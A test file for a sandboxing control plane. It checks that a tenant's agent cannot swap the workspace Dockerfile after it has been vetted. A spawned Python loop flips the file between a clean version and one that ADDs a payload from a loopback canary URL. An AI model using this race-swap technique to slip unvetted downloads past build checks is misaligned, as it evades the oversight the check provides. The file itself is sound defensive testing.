// Promise: the Dockerfile the engine builds is the one whose bases and URLs were checked. A tenant's
// agent may rewrite the workspace's Dockerfile while a start checks it; the engine is sent the
// checked bytes, never a version written after the check. Here a process flips the Dockerfile
// between a clean version (whose many bases keep the check busy) and one that ADDs a URL of a
// loopback canary, over a bounded number of starts: the canary hears nothing.
import { type ChildProcess, spawn } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { imageTags } from "@enclave/control-plane/image-set/image-tags.js";
import { outcome } from "../helpers/call-outcome.js";
import { type Fixture, startFixture } from "../helpers/control-plane-fixture.js";
import { type Canary, startCanary } from "../helpers/canary.js";

const BASE = imageTags().runtime;
const ATTEMPTS = 16;
let fx: Fixture;
let canary: Canary;
let flipper: ChildProcess | undefined;

beforeAll(async () => {
  fx = await startFixture();
  canary = await startCanary();
}, 120_000);
afterAll(async () => {
  flipper?.kill("SIGKILL");
  await canary?.close();
  await fx?.close();
});

// Swaps `target` between the two files' contents by rename, every millisecond, until killed.
const FLIP = [
  "import os, shutil, sys, time",
  "clean, evil, target = sys.argv[1:4]",
  "while True:",
  "    for src in (clean, evil):",
  "        shutil.copyfile(src, target + '.tmp')",
  "        os.replace(target + '.tmp', target)",
  "        time.sleep(0.001)",
].join("\n");

it("builds the Dockerfile it checked, not one swapped in after the check", async () => {
  const workspace = (await fx.client.createConversation("dockerfile-swap")).workspacePath;
  const dir = join(workspace, ".devcontainer");
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir);
  writeFileSync(join(dir, "devcontainer.json"), JSON.stringify({ build: { dockerfile: "Dockerfile" } }));
  // Clean: fails at its second step (nothing to copy), after a check of 300 bases.
  const clean = `FROM ${BASE}\nCOPY not-in-the-context /x\n${`FROM ${BASE}\n`.repeat(300)}`;
  const evil = `FROM ${BASE}\nADD http://127.0.0.1:${canary.port}/payload /payload\n`;
  writeFileSync(join(workspace, "clean"), clean);
  writeFileSync(join(workspace, "evil"), evil);
  writeFileSync(join(dir, "Dockerfile"), clean);
  flipper = spawn("python3", ["-c", FLIP, join(workspace, "clean"), join(workspace, "evil"), join(dir, "Dockerfile")], { stdio: "ignore" });
  const codes: string[] = [];
  for (let i = 0; i < ATTEMPTS && canary.connections() === 0; i++) {
    const o = await outcome(fx.client.startEnclosure("dockerfile-swap", { devcontainer: true }));
    codes.push(o.code);
    expect((await fx.client.getConversation("dockerfile-swap")).placement).toBe("host");
  }
  flipper.kill("SIGKILL");
  flipper = undefined;
  console.log(`outcomes of the starts: ${codes.join(" ")}`);
  expect(canary.connections()).toBe(0);
}, 600_000);
